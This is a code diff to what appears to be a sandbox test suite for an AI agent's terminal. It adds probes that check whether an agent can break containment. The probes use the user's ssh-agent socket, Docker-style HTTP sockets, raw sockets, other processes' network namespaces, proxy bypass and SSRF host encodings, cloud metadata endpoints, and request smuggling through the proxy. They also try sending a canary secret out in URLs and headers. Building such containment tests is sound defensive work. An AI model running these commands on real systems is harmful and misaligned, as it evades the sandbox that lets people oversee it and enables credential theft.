@@ -11,6 +11,9 @@ export interface Targets {
   readonly socket: string;
   readonly abstractName: string;
   readonly port: number;
+  /** The socket of a real ssh-agent, and of a service that speaks HTTP. */
+  readonly agentSocket: string;
+  readonly httpSocket: string;
   /** Folder of another terminal's pipes. */
   readonly pipes: string;
 }
@@ -67,6 +70,9 @@ export const ESCAPES: readonly Escape[] = [
   { way: "an open file that the agent's own starter left to it", control: false, script: () => got("find /proc/$$/fd -mindepth 1 | grep -qE '/(25[0-4]|2[0-4][0-9])$'") },
   { way: "a program put on the path, or loaded into all", control: false, script: () => got("IFS=:; for folder in $PATH; do touch \"$folder/probe-program\" && exit 0; done; echo evil >/etc/ld.so.preload") },
   { way: "the pipes of another terminal", control: true, script: ({ pipes }) => got(`ls '${pipes}'/hermes-terminal-*/in`) },
+  { way: "the person's ssh-agent", control: true, script: ({ agentSocket }) => `SSH_AUTH_SOCK='${agentSocket}' ssh-add -l 2>&1 | grep -q 'no identities' && echo ESCAPED` },
+  { way: "a daemon that speaks HTTP on a socket, as docker's does", control: true, script: ({ httpSocket }) => got(`curl -sS --max-time 3 --unix-socket '${httpSocket}' http://localhost/version | grep -q reached`) },
+  { way: "sockets of the machine's other families", control: false, script: () => python("import socket\nfor family in (40, 17, 38):\n    try:\n        socket.socket(family, socket.SOCK_DGRAM)\n        print(\"ESCAPED\")\n    except OSError:\n        pass") },
 ];
 
 /** Tried where the network is off. */
@@ -74,3 +80,33 @@ export const NETWORK_ESCAPES: readonly Escape[] = [
   { way: "a service on this machine", control: true, script: ({ port }) => got(`exec 7<>/dev/tcp/127.0.0.1/${port}`) },
   { way: "the metadata of a cloud machine", control: false, script: () => got("timeout 2 bash -c 'exec 7<>/dev/tcp/169.254.169.254/80'") },
 ];
+
+/** Tried where a proxy is the only way out. */
+export const PROXY_ESCAPES: readonly Escape[] = [
+  ...NETWORK_ESCAPES,
+  { way: "a datagram", control: false, script: () => python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))\nprint('ESCAPED')") },
+  { way: "a public address without the proxy", control: false, script: () => got("timeout 3 bash -c 'exec 7<>/dev/tcp/8.8.8.8/443' || timeout 3 bash -c 'exec 7<>/dev/tcp/2001:4860:4860::8888/443'") },
+  { way: "a raw socket", control: false, script: () => python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nprint('ESCAPED')") },
+  { way: "a packet socket", control: false, script: () => python("import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\nprint('ESCAPED')") },
+  { way: "an interface of its own", control: false, script: () => got("ip link add probe type dummy || ip route add default dev lo || ip addr add 10.9.8.7/24 dev lo") },
+  { way: "the network of another process", control: false, script: () => got("for n in /proc/[0-9]*/ns/net; do nsenter --net=$n true && [ \"$(readlink $n)\" != \"$(readlink /proc/self/ns/net)\" ] && exit 0; done; exit 1") },
+  { way: "seeing the machine's ports", control: true, script: ({ port }) => got(`grep -qi ':${port.toString(16).padStart(4, "0")} ' /proc/net/tcp`) },
+  { way: "without the variables that name the proxy", control: true, script: ({ port }) => got(`env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl -sS --max-time 3 http://127.0.0.1:${port}/ | grep -q reached`) },
+  { way: "another proxy, named in the variables", control: true, script: ({ port }) => got(`http_proxy=http://127.0.0.1:${port} no_proxy= NO_PROXY= curl -sS --max-time 3 http://a.example.org/ | grep -q reached`) },
+  ...["127.0.0.1", "127.1", "2130706433", "0x7f000001", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "localhost", "localhost.", "127.0.0.1.nip.io", "localtest.me"].map((host): Escape => ({ way: `a service of this machine, asked for through the proxy as ${host}`, control: false, script: ({ port }) => asked(host, port) })),
+  { way: "a name that leads to this machine", control: false, script: ({ port }) => asked("inner.example.org", port) },
+  { way: "a name with one public and one inner address", control: false, script: ({ port }) => asked("mixed.example.org", port) },
+  { way: "a name whose answer changes", control: false, script: ({ port }) => `for n in 1 2 3; do ${asked("changing.example.org", port)}; done` },
+  { way: "a public page that redirects to this machine", control: false, script: () => got("curl -sSL --max-time 3 http://redirect.example.org/ | grep -q reached") },
+  ...["169.254.169.254", "2852039166", "[::ffff:169.254.169.254]", "metadata.google.internal", "100.100.100.200"].map((host): Escape => ({ way: `the metadata of a cloud machine, asked for through the proxy as ${host}`, control: false, script: () => `${got(`curl -fsS --max-time 3 http://${host}/latest/`)}; ${got(`curl -fsSp --max-time 3 http://${host}/latest/`)}` })),
+  { way: "another host's name inside a tunnel", control: false, script: ({ port }) => `exec 7<>/dev/tcp/127.0.0.1/53128; printf 'CONNECT a.example.org:80 HTTP/1.1\r\n\r\nGET http://127.0.0.1:${port}/ HTTP/1.1\r\nhost: 127.0.0.1:${port}\r\nconnection: close\r\n\r\n' >&7; timeout 3 cat <&7 | grep -q reached && echo ESCAPED` },
+  { way: "a second request behind one that was allowed", control: false, script: ({ port }) => `exec 7<>/dev/tcp/127.0.0.1/53128; printf 'GET http://a.example.org/ HTTP/1.1\r\nhost: a\r\n\r\nGET http://127.0.0.1:${port}/ HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n' >&7; timeout 3 cat <&7 | grep -q reached && echo ESCAPED` },
+  { way: "a stored secret in an address", control: false, script: () => got(`curl -fsS --max-time 3 http://a.example.org/${CANARY}`) },
+  { way: "a stored secret in what is sent", control: false, script: () => `${got(`curl -fsS --max-time 3 -d k=${CANARY} http://a.example.org/`)}; ${got(`curl -fsSp --max-time 3 -H 'x: ${CANARY}' http://a.example.org/`)}` },
+  { way: "the channel through which the port was handed over", control: false, script: () => 'echo "$NODE_CHANNEL_FD" | grep -q . && echo ESCAPED; known=$(readlink /proc/1/fd/0 /proc/1/fd/1); for fd in /proc/[0-9]*/fd/*; do name=$(readlink "$fd"); case $name in socket:*) case $known in *"$name"*) ;; *) echo ESCAPED ;; esac ;; esac; done' },
+];
+
+function asked(host: string, port: number): string {
+  const url = `http://${host}:${port}/`;
+  return `export no_proxy= NO_PROXY=; ${got(`curl -sS --max-time 3 '${url}' | grep -q reached`)}; ${got(`curl -sSp --max-time 3 '${url}' | grep -q reached`)}`;
+}
